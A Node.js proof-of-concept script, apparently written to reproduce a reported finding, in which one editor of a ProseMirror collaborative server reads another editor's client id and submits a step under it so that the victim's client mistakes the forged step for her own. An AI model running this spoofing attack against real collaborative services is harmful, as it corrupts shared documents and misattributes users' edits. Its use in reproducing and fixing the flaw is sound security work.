// A client id taken by another principal (issue 21, finding 4): Alice
// edits with the real prosemirror-collab plugin over the long-poll API,
// the way the ProseMirror website's demo client does; Mallory, another
// editor, learns Alice's client id from an events answer and submits a
// step under it while Alice has a step of her own unsent. Then Alice
// syncs: she sends, and on a 409 receives what she missed (with
// receiveTransaction, which takes the steps under her client id as the
// confirmation of her own) and sends again, until nothing is sendable
// and she is at the server's version.
//
// Usage: node client-id-spoof.mjs --url http://127.0.0.1:8080 --doc ID
//          --alice JWT --mallory JWT
//
// Prints one line: {"mallory": {"status", "body"}, "alice": {"doc",
// "version", "sendable"}, "server": {"doc", "version"}}.

import { EditorState, TextSelection } from "prosemirror-state"
import { Step } from "prosemirror-transform"
import { collab, receiveTransaction, sendableSteps, getVersion } from "prosemirror-collab"
import { loadSchema } from "./schemas.mjs"

let args = {}
for (let i = 2; i < process.argv.length; i += 2) args[process.argv[i].replace(/^--/, "")] = process.argv[i + 1]
let base = `${args.url}/docs/${encodeURIComponent(args.doc)}`
let schema = loadSchema("basic")

async function call(method, path, token, body) {
  let resp = await fetch(base + path, {
    method,
    headers: { Authorization: `Bearer ${token}`, ...(body ? { "Content-Type": "application/json" } : {}) },
    body: body && JSON.stringify(body),
  })
  let text = await resp.text()
  return { status: resp.status, body: text, json: () => JSON.parse(text) }
}

function must(r, what) {
  if (r.status != 200) throw new Error(`${what}: ${r.status} ${r.body}`)
  return r.json()
}

// Alice loads the document.
let loaded = must(await call("GET", "", args.alice), "alice's GET")
let aliceID = 1000 + Math.floor(Math.random() * 0xffff)
let state = EditorState.create({
  doc: schema.nodeFromJSON(loaded.doc),
  plugins: [collab({ version: loaded.version, clientID: aliceID })],
})

function type(text, pos) {
  let tr = state.tr.setSelection(TextSelection.create(state.doc, pos)).insertText(text)
  state = state.apply(tr)
}

// receive takes in an events answer (what the demo client does).
function receive(data) {
  let steps = data.steps.map(j => Step.fromJSON(schema, j))
  state = state.apply(receiveTransaction(state, steps, data.clientIDs))
}

// sync sends what is sendable and receives what is missed until nothing
// is sendable and Alice is at the server's version.
async function sync() {
  for (let round = 0; round < 20; round++) {
    let sendable = sendableSteps(state)
    if (sendable) {
      let r = await call("POST", "/events", args.alice, {
        version: sendable.version, steps: sendable.steps.map(s => s.toJSON()), clientID: sendable.clientID,
      })
      if (r.status != 200 && r.status != 409) throw new Error(`alice's POST: ${r.status} ${r.body}`)
    }
    let server = must(await call("GET", "", args.alice), "alice's GET")
    if (server.version > getVersion(state)) {
      receive(must(await call("GET", `/events?version=${getVersion(state)}&commentVersion=0`, args.alice), "alice's poll"))
    } else if (!sendableSteps(state)) {
      return
    }
  }
  throw new Error("alice does not settle")
}

// Alice types "Alice" and syncs: her client id is in the steps pushed.
type("Alice", 1)
await sync()

// Mallory learns it, and Alice types "Hello " without sending it yet.
let events = must(await call("GET", "/events?version=0&commentVersion=0", args.mallory), "mallory's poll")
let stolen = events.clientIDs[events.clientIDs.length - 1]
type("Hello ", 1)
let mallory = await call("POST", "/events", args.mallory, {
  version: events.version,
  steps: [{ stepType: "replace", from: 6, to: 6, slice: { content: [{ type: "text", text: "MALLORY" }] } }],
  clientID: stolen,
})

// Alice syncs.
await sync()
let server = must(await call("GET", "", args.alice), "alice's GET")
console.log(JSON.stringify({
  mallory: { status: mallory.status, body: mallory.body, clientID: stolen },
  alice: { clientID: aliceID, doc: state.doc.toJSON(), version: getVersion(state), sendable: sendableSteps(state) != null },
  server: { doc: server.doc, version: server.version },
}))
